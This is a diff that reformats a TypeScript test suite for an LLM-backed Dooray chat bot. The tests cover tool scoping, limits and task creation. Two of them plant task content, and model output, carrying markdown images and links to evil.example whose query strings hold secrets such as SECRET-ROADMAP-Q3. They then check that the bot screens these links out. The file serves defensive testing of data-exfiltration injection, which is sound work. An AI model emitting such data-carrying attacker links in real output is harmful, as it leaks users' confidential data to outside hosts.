@@ -1,7 +1,15 @@
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { toolMessages } from "../../handler/dooray/toolMessages.js";
 import { messages } from "../../handler/dooray/messages.js";
-import { SAMPLE_LOCKED_PROJECT_ID, SAMPLE_PROJECT_ID, SAMPLE_TOKEN, SAMPLE_WIKI_ID, startSampleDoorayApi, type RecordedDoorayRequest, type SampleDoorayApi } from "../../handler/local/sampleDoorayApi.js";
+import {
+  SAMPLE_LOCKED_PROJECT_ID,
+  SAMPLE_PROJECT_ID,
+  SAMPLE_TOKEN,
+  SAMPLE_WIKI_ID,
+  startSampleDoorayApi,
+  type RecordedDoorayRequest,
+  type SampleDoorayApi,
+} from "../../handler/local/sampleDoorayApi.js";
 import { DIALOG_REF_MAX_AGE_SECONDS, dialogRef } from "../../handler/job/conversationRef.js";
 import { clearAccessCache } from "../../handler/tools/askerAccess.js";
 import { RECENT_TASK_MINUTES } from "../../handler/worker/createTask.js";
@@ -18,7 +26,8 @@ const TWO_PROJECTS_CHANNEL = "8888888888888888888";
 const SCOPE = { projects: [SAMPLE_PROJECT_ID], wikis: [SAMPLE_WIKI_ID] };
 const TASK_LINK = `https://guide.dooray.com/task/${SAMPLE_PROJECT_ID}/3570526358279082001`;
 /** The asker's membership checks (askerAccess.ts), apart from the tools' own reads. */
-const isAccessCheck = (request: RecordedDoorayRequest) => /^\/project\/v1\/projects\/\d+(\/members\/\d+)?$/.test(request.path) || request.path === "/wiki/v1/wikis";
+const isAccessCheck = (request: RecordedDoorayRequest) =>
+  /^\/project\/v1\/projects\/\d+(\/members\/\d+)?$/.test(request.path) || request.path === "/wiki/v1/wikis";
 
 describe("Dooray tools", () => {
   let api: SampleDoorayApi;
@@ -52,7 +61,12 @@ describe("Dooray tools", () => {
     const sent = await h.command(question, overrides);
     expect(sent.body.text).toBe(messages.ack);
     await h.dev.idle();
-    return { posts: h.dooray.postsFor(sent.hookId).map((post) => post.body.text), final: finalPosts(h.dooray.postsFor(sent.hookId)).map((post) => post.body.text).join("\n") };
+    return {
+      posts: h.dooray.postsFor(sent.hookId).map((post) => post.body.text),
+      final: finalPosts(h.dooray.postsFor(sent.hookId))
+        .map((post) => post.body.text)
+        .join("\n"),
+    };
   };
   const offered = (index: number) => (h.model.requests[index]?.body.tools ?? []).map((tool) => tool.function.name);
 
@@ -65,7 +79,10 @@ describe("Dooray tools", () => {
     // Only scoped ids may be named: the schema lists them.
     expect(h.model.requests[before + 1]!.body.tools![0]!.function.parameters.properties.projectId).toMatchObject({ enum: [SAMPLE_PROJECT_ID] });
     // Before the model saw them: is the asker a member of the project, and of the wiki's project? Nothing else.
-    expect(api.requests.map((request) => `${request.method} ${request.path}`).sort()).toEqual([`GET /project/v1/projects/${SAMPLE_PROJECT_ID}/members/${USER_ID}`, "GET /wiki/v1/wikis"]);
+    expect(api.requests.map((request) => `${request.method} ${request.path}`).sort()).toEqual([
+      `GET /project/v1/projects/${SAMPLE_PROJECT_ID}/members/${USER_ID}`,
+      "GET /wiki/v1/wikis",
+    ]);
   });
 
   it("searches and reads a task with the token, shows what it looks up, and ends the answer with the task's link", async () => {
@@ -81,7 +98,10 @@ describe("Dooray tools", () => {
     // Dooray's `subjects` matches whole titles; the words are also looked for in the recent tasks' titles.
     expect(toolRequests()[0]!.query).toMatchObject({ subjects: "배포" });
     // The model read the search (19-digit ids intact, though the list sent them as bare numbers) and the task.
-    const toolMessages = h.model.requests.at(-1)!.body.messages.filter((message) => message.role === "tool").map((message) => JSON.parse(message.content));
+    const toolMessages = h.model.requests
+      .at(-1)!
+      .body.messages.filter((message) => message.role === "tool")
+      .map((message) => JSON.parse(message.content));
     expect(toolMessages[0].tasks.map((task: { taskId: string }) => task.taskId)).toEqual(["3570526358279082001", "3570526358279082002"]);
     expect(toolMessages[1]).toMatchObject({ title: "이번 주 배포 체크리스트", body: expect.stringContaining("카나리 10% 배포"), link: TASK_LINK });
     expect(final).toContain("카나리 10% 배포");
@@ -91,17 +111,27 @@ describe("Dooray tools", () => {
   });
 
   it("refuses an argument outside the channel's scope before any request reaches Dooray", async () => {
-    const { final } = await ask('다른 프로젝트 [[call:read_task:{"taskId":"3570526358279082001","projectId":"1111111111111111111"}]] [[call:list_wiki_pages:{"wikiId":"2222222222222222222"}]]');
+    const { final } = await ask(
+      '다른 프로젝트 [[call:read_task:{"taskId":"3570526358279082001","projectId":"1111111111111111111"}]] [[call:list_wiki_pages:{"wikiId":"2222222222222222222"}]]',
+    );
     expect(toolRequests()).toEqual([]);
-    const toolMessages = h.model.requests.at(-1)!.body.messages.filter((message) => message.role === "tool").map((message) => JSON.parse(message.content));
+    const toolMessages = h.model.requests
+      .at(-1)!
+      .body.messages.filter((message) => message.role === "tool")
+      .map((message) => JSON.parse(message.content));
     expect(toolMessages).toEqual([{ error: "that project is not open to this channel" }, { error: "that wiki is not open to this channel" }]);
     expect(final).not.toContain("참고한 자료");
     const refused = h.logs.map((line) => JSON.parse(line)).filter((entry) => entry.event === "tool.called");
-    expect(refused.slice(-2).map((entry) => [entry.tool, entry.ok, entry.failure])).toEqual([["read_task", false, "outOfScope"], ["list_wiki_pages", false, "outOfScope"]]);
+    expect(refused.slice(-2).map((entry) => [entry.tool, entry.ok, entry.failure])).toEqual([
+      ["read_task", false, "outOfScope"],
+      ["list_wiki_pages", false, "outOfScope"],
+    ]);
   });
 
   it("reads a wiki page and links it", async () => {
-    const { posts, final } = await ask('롤백 [[call:list_wiki_pages:{"wikiId":"3570526358279081999"}]] [[call:read_wiki_page:{"pageId":"3570526358279083002"}]]');
+    const { posts, final } = await ask(
+      '롤백 [[call:list_wiki_pages:{"wikiId":"3570526358279081999"}]] [[call:read_wiki_page:{"pageId":"3570526358279083002"}]]',
+    );
     expect(posts[0]).toBe("📖 위키를 읽는 중…");
     expect(final).toContain("이전 커밋으로 되돌리는 PR");
     expect(final.endsWith("참고한 자료:\n- 롤백 절차: https://guide.dooray.com/project/pages/3570526358279083002")).toBe(true);
@@ -129,13 +159,19 @@ describe("Dooray tools", () => {
     const finished = h.logs.map((line) => JSON.parse(line)).findLast((line) => line.event === "job.finished");
     expect(finished).toMatchObject({ outcome: "answered", toolRounds: 3 });
     // Each call's reported usage (the fake counts a token per character), every round's prompt included, is charged.
-    const reported = h.model.requests.slice(before).reduce((sum, request) => sum + request.body.messages.reduce((chars, message) => chars + (message.content ?? "").length, 0), 0);
+    const reported = h.model.requests
+      .slice(before)
+      .reduce((sum, request) => sum + request.body.messages.reduce((chars, message) => chars + (message.content ?? "").length, 0), 0);
     expect(finished.usedTokens).toBeGreaterThan(reported);
     expect((await channelTokens()) - usedBefore).toBe(finished.usedTokens);
   });
 
   describe("replies are checked, errors stay local", () => {
-    const toolAnswers = () => h.model.requests.at(-1)!.body.messages.filter((message) => message.role === "tool").map((message) => JSON.parse(message.content) as Record<string, unknown>);
+    const toolAnswers = () =>
+      h.model.requests
+        .at(-1)!
+        .body.messages.filter((message) => message.role === "tool")
+        .map((message) => JSON.parse(message.content) as Record<string, unknown>);
 
     it("refuses a task whose reply says it belongs to a project outside the scope, before the model reads it", async () => {
       const misplaced = api.addTask("다른 프로젝트의 업무", "보이면 안 되는 본문 OUTSIDE-SCOPE-BODY", { claimsProject: "1111111111111111111" });
@@ -171,7 +207,10 @@ describe("Dooray tools", () => {
       const long = api.addTask("긴 회의록", "가나다라마바사아자차카타파하".repeat(250));
       await ask(`[[calls:3:read_task:{"taskId":"${long}"}]]`);
       const answers = toolAnswers();
-      const bytes = h.model.requests.at(-1)!.body.messages.filter((message) => message.role === "tool").reduce((sum, message) => sum + Buffer.byteLength(message.content, "utf8"), 0);
+      const bytes = h.model.requests
+        .at(-1)!
+        .body.messages.filter((message) => message.role === "tool")
+        .reduce((sum, message) => sum + Buffer.byteLength(message.content, "utf8"), 0);
       expect(answers[0]).toMatchObject({ title: "긴 회의록" });
       expect(answers.at(-1)).toEqual({ error: "this question has read as much as it may; answer from what you already have" });
       expect(bytes).toBeLessThanOrEqual(MAX_JOB_TOOL_RESULT_BYTES + 200);
@@ -186,7 +225,11 @@ describe("Dooray tools", () => {
     });
 
     it("the sample Dooray API answers a body that is not JSON with 400, and goes on serving", async () => {
-      const post = await fetch(`${api.url}/project/v1/projects/${SAMPLE_PROJECT_ID}/posts`, { method: "POST", headers: { authorization: `dooray-api ${SAMPLE_TOKEN}`, "content-type": "application/json" }, body: "{not json" });
+      const post = await fetch(`${api.url}/project/v1/projects/${SAMPLE_PROJECT_ID}/posts`, {
+        method: "POST",
+        headers: { authorization: `dooray-api ${SAMPLE_TOKEN}`, "content-type": "application/json" },
+        body: "{not json",
+      });
       expect(post.status).toBe(400);
       expect(((await post.json()) as { header: { isSuccessful: boolean } }).header.isSuccessful).toBe(false);
       const after = await fetch(`${api.url}/project/v1/projects/${SAMPLE_PROJECT_ID}`, { headers: { authorization: `dooray-api ${SAMPLE_TOKEN}` } });
@@ -205,12 +248,18 @@ describe("Dooray tools", () => {
 
     it("a member of one scoped project and not the other: the model sees and searches only the open one, and the person is told which was left out", async () => {
       const before = h.model.requests.length;
-      const { final } = await ask('배포 [[call:search_tasks:{"query":"배포"}]] [[call:read_task:{"taskId":"3570526358279082001","projectId":"3570526358279081600"}]]', { channelId: TWO_PROJECTS_CHANNEL });
+      const { final } = await ask(
+        '배포 [[call:search_tasks:{"query":"배포"}]] [[call:read_task:{"taskId":"3570526358279082001","projectId":"3570526358279081600"}]]',
+        { channelId: TWO_PROJECTS_CHANNEL },
+      );
       expect(h.model.requests[before]!.body.tools![0]!.function.parameters.properties.projectId).toMatchObject({ enum: [SAMPLE_PROJECT_ID] });
       // The search went to the open project only, and the locked one was refused before any request.
       expect(toolRequests().every((request) => request.path.startsWith(`/project/v1/projects/${SAMPLE_PROJECT_ID}/`))).toBe(true);
       expect(toolRequests().length).toBeGreaterThan(0);
-      const toolAnswers = h.model.requests.at(-1)!.body.messages.filter((message) => message.role === "tool").map((message) => JSON.parse(message.content));
+      const toolAnswers = h.model.requests
+        .at(-1)!
+        .body.messages.filter((message) => message.role === "tool")
+        .map((message) => JSON.parse(message.content));
       expect(toolAnswers[1]).toEqual({ error: "that project is not open to this channel" });
       expect(final).toContain("🔒 보안 프로젝트는 구성원만 볼 수 있어서 이번 답변에는 넣지 않았어요.");
       expect(final).toContain("참고한 자료:");
@@ -278,7 +327,10 @@ describe("할 일로 만들기", () => {
   beforeAll(async () => {
     api = await startSampleDoorayApi();
     h = await startHarness({
-      CHANNEL_PROFILES: JSON.stringify({ [TASK_CHANNEL]: { name: "플랫폼", dooray: { ...SCOPE, taskProject: SAMPLE_PROJECT_ID } }, [CHANNEL_ID]: { name: "읽기만", dooray: SCOPE } }),
+      CHANNEL_PROFILES: JSON.stringify({
+        [TASK_CHANNEL]: { name: "플랫폼", dooray: { ...SCOPE, taskProject: SAMPLE_PROJECT_ID } },
+        [CHANNEL_ID]: { name: "읽기만", dooray: SCOPE },
+      }),
       DOORAY_API_URL: api.url,
       DOORAY_API_TOKEN: SAMPLE_TOKEN,
     });
@@ -301,27 +353,52 @@ describe("할 일로 만들기", () => {
     return Object.fromEntries((last.attachments ?? []).flatMap((block) => block.actions).map((action) => [action.name, action.value]));
   };
   const pressIn = (channelId: string, value: string, presser = user) =>
-    h.send({ method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ ...pressPayload(value, { user: presser }), channel: { id: channelId, name: "플랫폼" } }) }).then(async (response) => ({ status: response.status, body: (await response.json()) as Record<string, unknown> }));
+    h
+      .send({
+        method: "POST",
+        headers: { "content-type": "application/json" },
+        body: JSON.stringify({ ...pressPayload(value, { user: presser }), channel: { id: channelId, name: "플랫폼" } }),
+      })
+      .then(async (response) => ({ status: response.status, body: (await response.json()) as Record<string, unknown> }));
   const submitTask = async (callbackId: string, fields: Record<string, string>) => {
     const { hookId, responseUrl } = h.dooray.newResponseUrl();
     const response = await h.send({
       method: "POST",
       headers: { "content-type": "application/json" },
-      body: JSON.stringify({ type: "dialog_submission", tenant: { id: TENANT_ID, domain: "guide.dooray.com" }, channel: { id: TASK_CHANNEL, name: "플랫폼" }, user, responseUrl, cmdToken: "cmd-token-1", callbackId, submission: fields, appToken: APP_TOKEN }),
+      body: JSON.stringify({
+        type: "dialog_submission",
+        tenant: { id: TENANT_ID, domain: "guide.dooray.com" },
+        channel: { id: TASK_CHANNEL, name: "플랫폼" },
+        user,
+        responseUrl,
+        cmdToken: "cmd-token-1",
+        callbackId,
+        submission: fields,
+        appToken: APP_TOKEN,
+      }),
     });
     const text = await response.text();
     await h.dev.idle();
-    return { status: response.status, body: (text ? JSON.parse(text) : {}) as Record<string, unknown>, posts: h.dooray.postsFor(hookId).map((post) => post.body.text) };
+    return {
+      status: response.status,
+      body: (text ? JSON.parse(text) : {}) as Record<string, unknown>,
+      posts: h.dooray.postsFor(hookId).map((post) => post.body.text),
+    };
   };
 
   it("keeps content's outside links and images out of the answer, its progress, its sources, the dialog and the task", async () => {
-    const poisoned = api.addTask("[클릭](https://evil.example/t) 배포", "상태 ![status](https://evil.example/pixel.png?d=SECRET-ROADMAP-Q3)\n자세히: https://evil.example/doc?d=SECRET-PLAN");
+    const poisoned = api.addTask(
+      "[클릭](https://evil.example/t) 배포",
+      "상태 ![status](https://evil.example/pixel.png?d=SECRET-ROADMAP-Q3)\n자세히: https://evil.example/doc?d=SECRET-PLAN",
+    );
     const sent = await h.command(`정리해줘 [[call:read_task:{"taskId":"${poisoned}"}]]`, { channelId: TASK_CHANNEL });
     await h.dev.idle();
     const posts = h.dooray.postsFor(sent.hookId).map((post) => post.body as { text: string; attachments?: { actions: { name: string; value: string }[] }[] });
     const shown = posts.map((post) => post.text).join("\n");
     // The model read the task as it is (the tool result is not filtered), but nothing it wrote after carries the links.
-    expect(h.model.requests.at(-1)!.body.messages.some((message) => message.role === "tool" && message.content.includes("https://evil.example/pixel.png"))).toBe(true);
+    expect(
+      h.model.requests.at(-1)!.body.messages.some((message) => message.role === "tool" && message.content.includes("https://evil.example/pixel.png")),
+    ).toBe(true);
     expect(shown).not.toMatch(/evil\.example|SECRET-ROADMAP|SECRET-PLAN|pixel\.png/);
     const final = posts.at(-1)!;
     expect(final.text).toContain("[이미지: status (evil[.]example)]");
@@ -343,7 +420,12 @@ describe("할 일로 만들기", () => {
     const fresh = h.dooray.dialogs.at(-1)!.body.callbackId;
     const [, conversationId, turn, , dialogId] = fresh.split(".");
     const twoHoursAgo = Date.now() - 2 * 3600 * 1000;
-    const stale = dialogRef({ kind: "task", conversationId: conversationId!, turn: Number(turn), dialogId: dialogId! }, { tenantId: TENANT_ID, channelId: TASK_CHANNEL, userId: USER_ID }, APP_TOKEN, twoHoursAgo);
+    const stale = dialogRef(
+      { kind: "task", conversationId: conversationId!, turn: Number(turn), dialogId: dialogId! },
+      { tenantId: TENANT_ID, channelId: TASK_CHANNEL, userId: USER_ID },
+      APP_TOKEN,
+      twoHoursAgo,
+    );
     const submitted = await submitTask(stale, { title: "늦은 제출", body: "" });
     expect(submitted.body).toEqual({ errors: [{ name: "title", error: messages.dialogExpired(DIALOG_REF_MAX_AGE_SECONDS / 3600) }] });
     expect(messages.dialogExpired(1)).toContain("1시간");
@@ -381,7 +463,17 @@ describe("할 일로 만들기", () => {
     const response = await h.send({
       method: "POST",
       headers: { "content-type": "application/json" },
-      body: JSON.stringify({ type: "dialog_submission", tenant: { id: TENANT_ID, domain: "guide.dooray.com" }, channel: { id: TASK_CHANNEL, name: "플랫폼" }, user, responseUrl, cmdToken: "cmd-token-1", callbackId: dialog.callbackId, submission: { confirm: "share" }, appToken: APP_TOKEN }),
+      body: JSON.stringify({
+        type: "dialog_submission",
+        tenant: { id: TENANT_ID, domain: "guide.dooray.com" },
+        channel: { id: TASK_CHANNEL, name: "플랫폼" },
+        user,
+        responseUrl,
+        cmdToken: "cmd-token-1",
+        callbackId: dialog.callbackId,
+        submission: { confirm: "share" },
+        appToken: APP_TOKEN,
+      }),
     });
     expect(response.status).toBe(200);
     const shared = h.dooray.postsFor(hookId).map((post) => post.body);
@@ -395,9 +487,15 @@ describe("할 일로 만들기", () => {
 
   it("screens a link the model writes itself after reading Dooray content", async () => {
     // The fake model repeats the question: here it "writes" an outside URL carrying data, after a tool ran.
-    const sent = await h.command('정리해서 ![x](https://evil.example/p.png?d=SECRET-MODEL) 와 https://evil.example/r?d=SECRET-MODEL-2 도 넣어줘 [[call:read_task:{"taskId":"3570526358279082001"}]]', { channelId: TASK_CHANNEL });
+    const sent = await h.command(
+      '정리해서 ![x](https://evil.example/p.png?d=SECRET-MODEL) 와 https://evil.example/r?d=SECRET-MODEL-2 도 넣어줘 [[call:read_task:{"taskId":"3570526358279082001"}]]',
+      { channelId: TASK_CHANNEL },
+    );
     await h.dev.idle();
-    const shown = h.dooray.postsFor(sent.hookId).map((post) => post.body.text).join("\n");
+    const shown = h.dooray
+      .postsFor(sent.hookId)
+      .map((post) => post.body.text)
+      .join("\n");
     expect(shown).toContain("답변: 정리해서 [이미지: x (evil[.]example)] 와 evil[.]example 도 넣어줘");
     expect(shown).not.toMatch(/SECRET-MODEL|evil\.example/);
   });
@@ -421,7 +519,9 @@ describe("할 일로 만들기", () => {
 
     const submitted = await submitTask(dialog.callbackId, { title: "배포 체크리스트 확인", body: "1. 카나리\n2. 롤백 리허설" });
     expect(submitted).toMatchObject({ status: 200, body: {} });
-    expect(api.created).toEqual([{ projectId: SAMPLE_PROJECT_ID, subject: "배포 체크리스트 확인", body: "1. 카나리\n2. 롤백 리허설", id: expect.stringMatching(/^\d{19}$/) }]);
+    expect(api.created).toEqual([
+      { projectId: SAMPLE_PROJECT_ID, subject: "배포 체크리스트 확인", body: "1. 카나리\n2. 롤백 리허설", id: expect.stringMatching(/^\d{19}$/) },
+    ]);
     const created = api.requests.find((request) => request.method === "POST")!;
     expect(created.authorization).toBe(`dooray-api ${SAMPLE_TOKEN}`);
     expect(created.body).toMatchObject({ body: { mimeType: "text/x-markdown" } });
